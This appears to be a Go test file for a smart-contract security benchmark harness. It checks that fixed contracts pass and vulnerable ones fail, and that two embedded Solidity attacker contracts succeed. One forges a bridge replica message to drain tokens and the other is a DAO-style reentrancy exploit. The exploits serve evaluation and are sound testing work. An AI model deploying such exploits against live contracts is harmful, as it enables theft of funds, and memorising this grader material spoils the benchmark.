package verify_test

import (
	"testing"

	"assay/internal/core/suite"
	"assay/internal/proof/verify"
	"assay/internal/test/corpustest"
	"assay/internal/test/solctest"
	"assay/suites"
)

// On every embedded sample the twin is a repair and the vulnerable source is
// none: a judge that gets this wrong cannot be trusted with other people's.
func TestRepairKnown(t *testing.T) {
	c := solctest.New(t)
	list, problems, err := suite.Load(suites.FS, suite.Blockbench, "", "suites/blockbench")
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	takes := corpustest.Every(t, 90)
	for i := range list[0].Samples {
		x, ok := list[0].Executable(&list[0].Samples[i])
		if !ok || !takes(i) {
			continue
		}
		t.Run(x.ID, func(t *testing.T) {
			t.Parallel()
			cs, err := verify.Prepare(t.Context(), c, x)
			if err != nil {
				t.Fatal(err)
			}
			for _, k := range []struct {
				text  string
				works bool
			}{{x.Fixed[x.Main], true}, {x.Vulnerable[x.Main], false}} {
				r, err := cs.Repair(t.Context(), c, k.text, verify.Options{Fuzz: 100, Seed: 1})
				if err != nil {
					t.Fatal(err)
				}
				if r.Works() != k.works {
					t.Errorf("works %v, want %v: %q", r.Works(), k.works, r.Failures())
				}
			}
		})
	}
}

// A foreign attack on an embedded sample whose target does not know the contract
// that holds the money, and on one of the oldest compiler.
func TestAttackKnown(t *testing.T) {
	corpustest.Turn(t, 3)
	c := solctest.New(t)
	list, problems, err := suite.Load(suites.FS, suite.Blockbench, "", "suites/blockbench")
	if err != nil || len(problems) > 0 {
		t.Fatal(err, problems)
	}
	for id, text := range map[string]string{
		"tc/bridge-replica": `pragma solidity 0.8.30;
import "./Replica.sol";
interface World { function target() external view returns (address); function asset() external view returns (address); function deployed(string calldata) external view returns (address); }
interface Balance { function balanceOf(address) external view returns (uint256); }
interface Bridge { function remoteBridge() external view returns (address); }
contract Attacker {
    function step(uint256, address w) external returns (uint256) {
        Replica replica = Replica(World(w).target());
        Bridge bridge = Bridge(World(w).deployed("TokenBridge"));
        address token = World(w).asset();
        replica.deliver(Messages.Message(replica.remoteDomain(), bytes32(uint256(uint160(bridge.remoteBridge()))), 0,
            replica.localDomain(), address(bridge), abi.encode(token, address(this), Balance(token).balanceOf(address(bridge)))));
        return 0;
    }
}`,
		"tc/reward-split": `pragma solidity 0.4.26;
import "./InvestmentFund.sol";
contract World { function target() public returns (address); }
contract Keeper {
    function back(InvestmentFund fund, address to) public { fund.transferShares(to, fund.shares(address(this))); }
}
contract Attacker {
    InvestmentFund fund;
    Keeper keeper = new Keeper();
    uint depth;
    function step(uint number, address w) public returns (uint) {
        fund = InvestmentFund(World(w).target());
        require(number > 0 || address(this).balance == 0, "its capital was spent on units");
        if (number > 0) keeper.back(fund, address(this));
        depth = 0;
        fund.split(address(this));
        return number < 3 ? 60 : 0;
    }
    function () public payable {
        if (msg.sender != address(fund.rewardAccount())) return;
        if (depth++ < 29) address(fund).call(abi.encodeWithSignature("split(address)", address(this)));
        else fund.transferShares(address(keeper), fund.shares(address(this)));
    }
}`,
	} {
		found := false
		for i := range list[0].Samples {
			x, ok := list[0].Executable(&list[0].Samples[i])
			if !ok || x.ID != id {
				continue
			}
			found = true
			cs, err := verify.Prepare(t.Context(), c, x)
			if err != nil {
				t.Fatal(err)
			}
			a, err := cs.Attack(t.Context(), c, text)
			if err != nil || !a.Specific() {
				t.Errorf("%s: %+v, %v", id, a, err)
			}
		}
		if !found {
			t.Errorf("no sample %s", id)
		}
	}
}
